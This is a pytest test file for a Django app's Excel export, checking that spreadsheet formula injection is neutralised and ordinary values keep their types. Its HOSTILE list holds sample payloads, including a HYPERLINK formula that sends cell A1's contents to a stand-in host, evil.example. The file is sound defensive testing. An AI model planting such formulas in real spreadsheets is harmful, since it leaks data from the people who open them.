"""The one Excel export: formula injection is neutralised, plain values keep their types."""

import io
from datetime import date

import pytest
from openpyxl import load_workbook

from core.excel import xlsx_response

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]


def _sheet(rows):
    response = xlsx_response("x.xlsx", ["Họ và tên", "Số", "Ngày"], rows)
    assert response["Content-Disposition"].startswith("attachment;")
    return response, load_workbook(io.BytesIO(response.content)).active


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_looks_like_a_formula_is_written_as_text(text):
    _, ws = _sheet([[text, 1, None]])
    cell = ws["A2"]
    assert cell.data_type == "s"
    assert cell.value == text
    assert cell.quotePrefix is True


def test_raw_xml_holds_no_formula():
    import zipfile

    response, _ = _sheet([[t, 1, None] for t in HOSTILE])
    sheet_xml = zipfile.ZipFile(io.BytesIO(response.content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml


def test_ordinary_values_keep_their_types():
    _, ws = _sheet([["Lò Thị Hương", -3, date(2026, 3, 16)], ["a=b", 2.5, None]])
    assert ws["A2"].value == "Lò Thị Hương"
    assert ws["A2"].quotePrefix is False
    assert ws["B2"].value == -3
    assert ws["B2"].data_type == "n"
    assert ws["C2"].value.date() == date(2026, 3, 16)
    assert ws["A3"].value == "a=b"


@pytest.mark.django_db
def test_person_named_like_a_formula_is_text_in_the_people_export(client, jurisdiction, secretariat):
    from django.urls import reverse

    from units.tests.factories import PersonFactory

    PersonFactory(full_name="=1+1", unit=jurisdiction.district)
    client.force_login(secretariat)
    response = client.get(reverse("units:person-list"), {"export": "xlsx"})
    ws = load_workbook(io.BytesIO(response.content)).active
    cell = next(row[0] for row in ws.iter_rows(min_row=2) if row[0].value == "=1+1")
    assert cell.data_type == "s"
    assert cell.quotePrefix is True


@pytest.mark.parametrize("text", HOSTILE)
def test_the_table_export_neutralises_formulas_too(text):
    from core.excel import xlsx_table_response

    response = xlsx_table_response("t.xlsx", ["Đơn vị"], [[text]], title_rows=[text])
    ws = load_workbook(io.BytesIO(response.content)).active
    for cell in (ws["A1"], ws["A4"]):  # a title row and a data row
        assert cell.value == text
        assert cell.data_type == "s"
        assert cell.quotePrefix is True
